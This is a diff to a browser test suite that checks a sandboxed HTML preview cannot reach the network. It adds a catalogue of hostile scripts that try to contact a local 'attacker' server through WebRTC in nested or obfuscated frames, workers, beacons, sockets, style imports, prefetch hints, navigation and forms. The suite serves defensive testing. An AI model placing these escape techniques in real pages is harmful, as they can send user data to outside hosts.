@@ -1,3 +1,4 @@
+import { createSocket, type Socket } from 'node:dgram';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
@@ -31,6 +32,8 @@ afterAll(async () => {
   attacker.close();
   rmSync(webRoot, { recursive: true });
 });
+
+type Page = Awaited<ReturnType<Awaited<ReturnType<typeof signedInContext>>['newPage']>>;
 
 /** Tries everything that a page could do to its user, and reports what succeeded. */
 const hostileScript = (url: string) => `
@@ -110,15 +113,136 @@ test('a hostile page can show itself and nothing else', async () => {
   expect(requestsToAttacker).toEqual([]);
 });
 
-test('a preview that is opened outside of a frame has a separate origin', async () => {
+describe('a hostile page has no network', () => {
+  /** Sends packets to a port if WebRTC is available. */
+  const sendPackets = (port: number) => `
+    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
+    connection.createDataChannel('data');
+    connection.createOffer().then((offer) => connection.setLocalDescription(offer));`;
+  const inFrame = (port: number) =>
+    JSON.stringify(`<script>${sendPackets(port)}</script>`).replaceAll('/script', '\\/script');
+  const appendFrame = (attributes: string) =>
+    `const frame = document.createElement('iframe'); ${attributes}; document.body.append(frame);`;
+  const click = (html: string) => `document.body.innerHTML = '${html}'; document.querySelector('a').click();`;
+
+  const attempts: Record<string, (target: { url: string; port: number }) => string> = {
+    'with WebRTC': ({ port }) => sendPackets(port),
+    'with WebRTC by its old name': ({ port }) => sendPackets(port).replace('RTCPeer', 'webkitRTCPeer'),
+    'with WebRTC of an empty frame': ({ port }) =>
+      `${appendFrame('')} const { RTCPeerConnection } = frame.contentWindow; ${sendPackets(port)}`,
+    'with WebRTC in the content of a frame': ({ port }) => appendFrame(`frame.srcdoc = ${inFrame(port)}`),
+    'with WebRTC in an attribute of a frame': ({ port }) =>
+      appendFrame(`frame.setAttribute('srcdoc', ${inFrame(port)})`),
+    'with WebRTC in an attribute node': ({ port }) =>
+      `const node = document.createAttribute('srcdoc'); node.value = ${inFrame(port)}; ${appendFrame('frame.setAttributeNode(node)')}`,
+    'with WebRTC in an attribute node that changes later': ({ port }) =>
+      `const node = document.createAttribute('srcdoc'); ${appendFrame('frame.setAttributeNode(node)')} node.value = ${inFrame(port)};`,
+    'with WebRTC in a frame in HTML': ({ port }) =>
+      `const text = document.createElement('p'); text.append(${inFrame(port)});
+       document.body.innerHTML = '<iFrame srcdoc="' + text.innerHTML + '"></iFrame>';`,
+    'with WebRTC in a frame in HTML, with replaced methods': ({ port }) =>
+      `String.prototype.indexOf = () => -1; RegExp.prototype.exec = () => null; Array.prototype[Symbol.iterator] = () => ({ next: () => ({ done: true }) });
+       const text = document.createElement('p'); text.append(${inFrame(port)});
+       document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' + text.innerHTML + '"></iframe>');`,
+    'with WebRTC in a frame that is written in parts': ({ port }) =>
+      `document.write('<ifr'); document.write('ame srcdoc="'); document.write(${inFrame(port)}); document.write('"></iframe>');`,
+    'with WebRTC in a script address of a frame': ({ port }) =>
+      appendFrame(`frame.src = ${JSON.stringify(`javascript:${sendPackets(port)}`)}`),
+    'with WebRTC in a frame of a shadow tree': ({ port }) =>
+      `const root = document.body.attachShadow({ mode: 'open' });
+       const frame = document.createElement('iframe'); frame.srcdoc = ${inFrame(port)}; root.append(frame);`,
+    'with WebRTC in a frame of a blob': ({ port }) =>
+      appendFrame(`frame.src = URL.createObjectURL(new Blob([${inFrame(port)}], { type: 'text/html' }))`),
+    'with a worker': ({ url }) => `new Worker(URL.createObjectURL(new Blob(['fetch("${url}")'])))`,
+    'with a beacon': ({ url }) => `navigator.sendBeacon('${url}', 'x')`,
+    'with a socket': ({ url }) => `new WebSocket('${url}'.replace('http', 'ws'))`,
+    'with a style sheet': ({ url }) =>
+      `const style = document.createElement('style'); style.textContent = '@import "${url}"; body { background: url("${url}") }'; document.head.append(style);`,
+    'with hints for the browser': ({ url }) =>
+      `for (const rel of ['preconnect', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest', 'stylesheet', 'dns-prefetch']) {
+         const link = document.createElement('link'); link.rel = rel; link.href = '${url}'; link.as = 'image'; document.head.append(link); }`,
+    'with speculation': ({ url }) =>
+      `const rules = document.createElement('script'); rules.type = 'speculationrules';
+       rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${url}'], eagerness: 'immediate' }] }); document.head.append(rules);`,
+    'by going to an address': ({ url }) => `location.href = '${url}'`,
+    'by replacing its address': ({ url }) => `location.replace('${url}')`,
+    'by opening an address in itself': ({ url }) => `open('${url}', '_self')`,
+    'by opening an address at the top': ({ url }) => `open('${url}', '_top')`,
+    'by a link': ({ url }) => click(`<a href="${url}" ping="${url}">x</a>`),
+    'by a link for the top': ({ url }) => click(`<a href="${url}" target="_top">x</a>`),
+    'by a refresh': ({ url }) =>
+      `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=${url}'; document.head.append(meta);`,
+    'by a form': ({ url }) =>
+      `const form = document.createElement('form'); form.action = '${url}'; document.body.append(form); form.submit();`,
+  };
+
+  let browser: Awaited<ReturnType<typeof launchBrowser>>;
+  let packets: Socket;
+  let received = 0;
+  let connections = 0;
+  const countConnection = () => void connections++;
+
+  beforeAll(async () => {
+    browser = await launchBrowser();
+    packets = createSocket('udp4').on('message', () => received++);
+    await new Promise<void>((resolve) => void packets.bind(0, '127.0.0.1', resolve));
+    attacker.on('connection', countConnection);
+  });
+  beforeEach(() => {
+    received = connections = 0;
+  });
+  afterAll(async () => {
+    attacker.off('connection', countConnection);
+    await browser.close();
+    packets.close();
+  });
+
+  const target = () => ({ url: `${attackerUrl}/${Math.random()}`, port: packets.address().port });
+
+  /** Shows a page with a script as the app does, and waits until the browser has done what the script asked for. */
+  async function show(script: string): Promise<Page> {
+    const { id } = await chat.addVersion(ada.user.id, await ada.newConversation('Shop'), [
+      { path: 'fxmanifest.lua', content: "ui_page 'index.html'" },
+      { path: 'index.html', content: `<body><script src="app.js"></script>` },
+      { path: 'app.js', content: `try { ${script} } finally { parent.postMessage('done', '*'); }` },
+    ]);
+    const page = await (await signedInContext(browser)).newPage();
+    await page.goto(chat.chat.url);
+    await page.evaluate(showFrame(`/api/versions/${id}/preview`));
+    await settled(page);
+    return page;
+  }
+
+  /** The same means from a page that is not restricted arrive, after those of the frame would have. */
+  async function settled(page: Page): Promise<void> {
+    const control = createSocket('udp4');
+    await new Promise<void>((resolve) => void control.bind(0, '127.0.0.1', resolve));
+    const arrived = new Promise((resolve) => void control.once('message', resolve));
+    const free = await page.context().newPage();
+    await free.goto('about:blank');
+    await free.evaluate(sendPackets(control.address().port));
+    await arrived;
+    await free.close();
+    control.close();
+  }
+
+  test.each(Object.entries(attempts))('%s', async (_name, attempt) => {
+    const page = await show(attempt(target()));
+    expect([received, connections]).toEqual([0, 0]);
+    expect(page.url()).toBe(`${chat.chat.url}/`);
+    await page.context().close();
+  });
+});
+
+test('a preview cannot be opened outside of a frame', async () => {
   const { id } = await chat.addVersion(ada.user.id, await ada.newConversation('Shop'), [
-    { path: 'index.html', content: '<script>document.title = self.origin</script>' },
+    { path: 'index.html', content: '<title>Shop</title>' },
   ]);
   const browser = await launchBrowser();
   try {
     const page = await (await signedInContext(browser)).newPage();
-    await page.goto(`${chat.chat.url}/api/versions/${id}/preview`);
-    expect(await page.title()).toBe('null');
+    const response = await page.goto(`${chat.chat.url}/api/versions/${id}/preview`);
+    expect(response?.status()).toBe(404);
   } finally {
     await browser.close();
   }
